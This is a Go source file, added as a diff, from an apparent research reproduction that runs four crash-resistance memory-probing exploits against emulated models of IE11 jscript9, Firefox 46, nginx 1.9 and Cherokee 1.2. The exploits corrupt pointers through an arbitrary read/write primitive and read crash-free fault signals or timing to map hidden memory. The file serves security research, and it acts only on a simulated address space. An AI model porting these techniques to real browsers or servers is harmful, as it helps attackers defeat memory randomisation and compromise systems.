@@ -1,0 +1,331 @@
+package oracle
+
+import (
+	"bytes"
+	"fmt"
+
+	"crashresist/internal/mem"
+	"crashresist/internal/targets"
+	"crashresist/internal/vm"
+)
+
+// The four §VI proof-of-concept exploits. Each assumes the paper's threat
+// model: an arbitrary read/write primitive (emulated by direct address-space
+// access, exactly as the paper patched its targets) plus an information leak
+// for ordinary, non-hidden objects.
+
+// IEOracle is the §VI-A exploit: jscript9's MUTX::Enter wraps an
+// EnterCriticalSection-style call in a catch-all scope; the CRITICAL_SECTION
+// debug-information pointer is attacker-reachable, and the ScriptEngine
+// status field reveals whether the guarded call faulted.
+type IEOracle struct {
+	env      *targets.BrowserEnv
+	dbgPtrVA uint64
+	statusVA uint64
+}
+
+// NewIEOracle locates the ScriptEngine object (the "information leak") and
+// returns the ready oracle.
+func NewIEOracle(env *targets.BrowserEnv) (*IEOracle, error) {
+	critsec, err := env.ExportVA("jscript9.dll", "critsec")
+	if err != nil {
+		return nil, err
+	}
+	engine, err := env.ExportVA("jscript9.dll", "script_engine")
+	if err != nil {
+		return nil, err
+	}
+	return &IEOracle{
+		env:      env,
+		dbgPtrVA: critsec + 16, // debug_info field
+		statusVA: engine + 8,   // status field
+	}, nil
+}
+
+// Name implements Oracle.
+func (o *IEOracle) Name() string { return "ie11-mutx-enter" }
+
+// Probe implements Oracle: overwrite debug_info with addr-0x10, add a new
+// script (js_run), read back the status field.
+func (o *IEOracle) Probe(addr uint64) (ProbeResult, error) {
+	if err := o.env.Proc.AS.WriteUint(o.dbgPtrVA, 8, addr-16); err != nil {
+		return ProbeUnmapped, fmt.Errorf("ie probe: corrupt debug_info: %w", err)
+	}
+	if _, err := o.env.Call("jscript9.dll", "js_run", 1); err != nil {
+		return ProbeUnmapped, fmt.Errorf("ie probe: trigger: %w", err)
+	}
+	status, err := o.env.Proc.AS.ReadUint(o.statusVA, 8)
+	if err != nil {
+		return ProbeUnmapped, err
+	}
+	if status == 0 {
+		return ProbeMapped, nil
+	}
+	return ProbeUnmapped, nil
+}
+
+// FirefoxOracle is the §VI-B exploit: a background thread continuously
+// services probe requests through an ntdll exception handler; the attacker
+// only writes the target address into the probe object and reads the result
+// back.
+type FirefoxOracle struct {
+	env      *targets.BrowserEnv
+	slotVA   uint64
+	resultVA uint64
+}
+
+// NewFirefoxOracle locates the probe object.
+func NewFirefoxOracle(env *targets.BrowserEnv) (*FirefoxOracle, error) {
+	slot, err := env.ExportVA("xul.dll", "probe_slot")
+	if err != nil {
+		return nil, err
+	}
+	result, err := env.ExportVA("xul.dll", "probe_result")
+	if err != nil {
+		return nil, err
+	}
+	return &FirefoxOracle{env: env, slotVA: slot, resultVA: result}, nil
+}
+
+// Name implements Oracle.
+func (o *FirefoxOracle) Name() string { return "firefox46-ntdll-worker" }
+
+// Probe implements Oracle: write the address, let the background thread act,
+// read the result. A result of all-ones means the handler ran (fault);
+// anything else is the probed memory's content. (A mapped word that happens
+// to hold all-ones is misclassified — an inherent limitation of this
+// primitive, present in the original too.)
+func (o *FirefoxOracle) Probe(addr uint64) (ProbeResult, error) {
+	if addr == 0 {
+		return ProbeUnmapped, nil // slot value 0 means "idle"
+	}
+	if err := o.env.Proc.AS.WriteUint(o.slotVA, 8, addr); err != nil {
+		return ProbeUnmapped, fmt.Errorf("firefox probe: %w", err)
+	}
+	for i := 0; i < 200; i++ {
+		o.env.Proc.Run(10_000)
+		if !o.env.Proc.Alive() {
+			return ProbeUnmapped, fmt.Errorf("firefox died: %v", o.env.Proc.Crash)
+		}
+		v, err := o.env.Proc.AS.ReadUint(o.slotVA, 8)
+		if err != nil {
+			return ProbeUnmapped, err
+		}
+		if v == 0 {
+			break
+		}
+	}
+	res, err := o.env.Proc.AS.ReadUint(o.resultVA, 8)
+	if err != nil {
+		return ProbeUnmapped, err
+	}
+	if res == ^uint64(0) {
+		return ProbeUnmapped, nil
+	}
+	return ProbeMapped, nil
+}
+
+// NginxOracle is the §VI-C exploit: a partial request keeps a
+// connection-buffer object alive; the attacker leaks it by scanning for a
+// signature, rewrites the buffer pointer to the probe target, completes the
+// request, and reads the connection's fate (response = accessible, graceful
+// close = not).
+//
+// Note this primitive probes for *writable* memory: a mapped probe makes
+// recv() deposit the completion bytes at the target.
+type NginxOracle struct {
+	env     *targets.ServerEnv
+	counter int
+}
+
+// NewNginxOracle wraps a running nginx-model environment.
+func NewNginxOracle(env *targets.ServerEnv) *NginxOracle {
+	return &NginxOracle{env: env}
+}
+
+// Name implements Oracle.
+func (o *NginxOracle) Name() string { return "nginx19-recv" }
+
+// Probe implements Oracle with the four-step §VI-C dance.
+func (o *NginxOracle) Probe(addr uint64) (ProbeResult, error) {
+	o.counter++
+	sig := []byte(fmt.Sprintf("SIGNATURE%06d", o.counter))
+
+	// Step 1: partial request carrying the signature over connection A.
+	cc, err := o.env.Kern.Connect(targets.HTTPPort)
+	if err != nil {
+		return ProbeUnmapped, fmt.Errorf("nginx probe: connect: %w", err)
+	}
+	cc.Send(sig)
+	o.env.Proc.Run(200_000)
+
+	// Step 2: leak the buffer holding the signature (arbitrary read).
+	bufAddr, ok := findBytes(o.env.Proc, sig)
+	if !ok {
+		cc.Close()
+		return ProbeUnmapped, fmt.Errorf("nginx probe: signature not found")
+	}
+
+	// Step 3: find the stored pointer to that buffer (the ngx_buf_t
+	// field) and overwrite it with the probe target (arbitrary write).
+	ptrLoc, ok := findPointer(o.env.Proc, bufAddr)
+	if !ok {
+		cc.Close()
+		return ProbeUnmapped, fmt.Errorf("nginx probe: buffer pointer not found")
+	}
+	if err := o.env.Proc.AS.WriteUint(ptrLoc, 8, addr); err != nil {
+		return ProbeUnmapped, err
+	}
+	// Also reset the fill offset so the completion lands at the probe
+	// target itself.
+	if err := o.env.Proc.AS.WriteUint(ptrLoc+16, 8, 0); err != nil {
+		return ProbeUnmapped, err
+	}
+
+	// Step 4: complete the request; response vs. graceful close is the
+	// oracle.
+	cc.Send([]byte("XY\n\n"))
+	o.env.Proc.Run(500_000)
+	resp := cc.Recv()
+	served := len(resp) > 0
+	cc.Close()
+	o.env.Proc.Run(100_000)
+
+	if !o.env.Proc.Alive() {
+		return ProbeUnmapped, fmt.Errorf("nginx died: %v", o.env.Proc.Crash)
+	}
+	if served {
+		return ProbeMapped, nil
+	}
+	return ProbeUnmapped, nil
+}
+
+// CherokeeOracle is the §VI-D exploit: corrupting one worker's epoll event
+// pointer turns that worker into a tight failing loop; the time the server
+// needs to answer a fixed batch of requests is the side channel.
+type CherokeeOracle struct {
+	env *targets.ServerEnv
+	// ctxVA is the leaked location of worker 0's event-array pointer.
+	ctxVA   uint64
+	validEv uint64
+	// Requests per measurement batch (1,000 in the paper).
+	Requests int
+	baseline uint64
+}
+
+// NewCherokeeOracle leaks the worker context and calibrates the baseline.
+func NewCherokeeOracle(env *targets.ServerEnv, requests int) (*CherokeeOracle, error) {
+	if requests <= 0 {
+		requests = 20
+	}
+	mod := env.Proc.Modules()[0]
+	off, ok := mod.Image.Export("thread_ctxs")
+	if !ok {
+		return nil, fmt.Errorf("cherokee oracle: no thread_ctxs export")
+	}
+	ctxVA := mod.VA(off)
+	validEv, err := env.Proc.AS.ReadUint(ctxVA, 8)
+	if err != nil {
+		return nil, err
+	}
+	o := &CherokeeOracle{env: env, ctxVA: ctxVA, validEv: validEv, Requests: requests}
+	o.baseline = o.measure()
+	if o.baseline == 0 {
+		return nil, fmt.Errorf("cherokee oracle: baseline measurement failed")
+	}
+	return o, nil
+}
+
+// Name implements Oracle.
+func (o *CherokeeOracle) Name() string { return "cherokee12-epoll-wait" }
+
+// Baseline returns the calibration time for one request batch.
+func (o *CherokeeOracle) Baseline() uint64 { return o.baseline }
+
+// MeasureWith corrupts the worker pointer with addr, measures a batch, then
+// restores the worker. Exposed for the timing-curve experiment.
+func (o *CherokeeOracle) MeasureWith(addr uint64) (uint64, error) {
+	if err := o.env.Proc.AS.WriteUint(o.ctxVA, 8, addr); err != nil {
+		return 0, err
+	}
+	elapsed := o.measure()
+	// Restore: the worker reloads the pointer on its next iteration.
+	if err := o.env.Proc.AS.WriteUint(o.ctxVA, 8, o.validEv); err != nil {
+		return 0, err
+	}
+	o.env.Proc.Run(100_000)
+	if !o.env.Proc.Alive() {
+		return 0, fmt.Errorf("cherokee died: %v", o.env.Proc.Crash)
+	}
+	return elapsed, nil
+}
+
+// Probe implements Oracle: a batch that takes markedly longer than the
+// baseline means the worker stalled in failing epoll_wait calls — the
+// target is inaccessible.
+func (o *CherokeeOracle) Probe(addr uint64) (ProbeResult, error) {
+	elapsed, err := o.MeasureWith(addr)
+	if err != nil {
+		return ProbeUnmapped, err
+	}
+	if elapsed > o.baseline*3 {
+		return ProbeUnmapped, nil
+	}
+	return ProbeMapped, nil
+}
+
+// measure times one batch of requests in virtual ticks.
+func (o *CherokeeOracle) measure() uint64 {
+	var total uint64
+	for i := 0; i < o.Requests; i++ {
+		_, ticks, _ := o.env.RequestTimed(targets.HTTPPort, []byte("GET /probe\n\n"))
+		total += ticks
+	}
+	return total
+}
+
+// findBytes scans writable memory for a byte pattern (the attacker's
+// arbitrary-read leak loop).
+func findBytes(p *vm.Process, pattern []byte) (uint64, bool) {
+	for _, r := range p.AS.Regions() {
+		if r.Perm&mem.PermWrite == 0 {
+			continue
+		}
+		data, err := p.AS.Read(r.Addr, r.Length)
+		if err != nil {
+			continue
+		}
+		if idx := bytes.Index(data, pattern); idx >= 0 {
+			return r.Addr + uint64(idx), true
+		}
+	}
+	return 0, false
+}
+
+// findPointer scans writable memory for an 8-byte little-endian value equal
+// to target.
+func findPointer(p *vm.Process, target uint64) (uint64, bool) {
+	var pat [8]byte
+	for i := 0; i < 8; i++ {
+		pat[i] = byte(target >> (8 * i))
+	}
+	return findBytesAligned(p, pat[:])
+}
+
+func findBytesAligned(p *vm.Process, pattern []byte) (uint64, bool) {
+	for _, r := range p.AS.Regions() {
+		if r.Perm&mem.PermWrite == 0 {
+			continue
+		}
+		data, err := p.AS.Read(r.Addr, r.Length)
+		if err != nil {
+			continue
+		}
+		for off := 0; off+len(pattern) <= len(data); off += 8 {
+			if bytes.Equal(data[off:off+len(pattern)], pattern) {
+				return r.Addr + uint64(off), true
+			}
+		}
+	}
+	return 0, false
+}
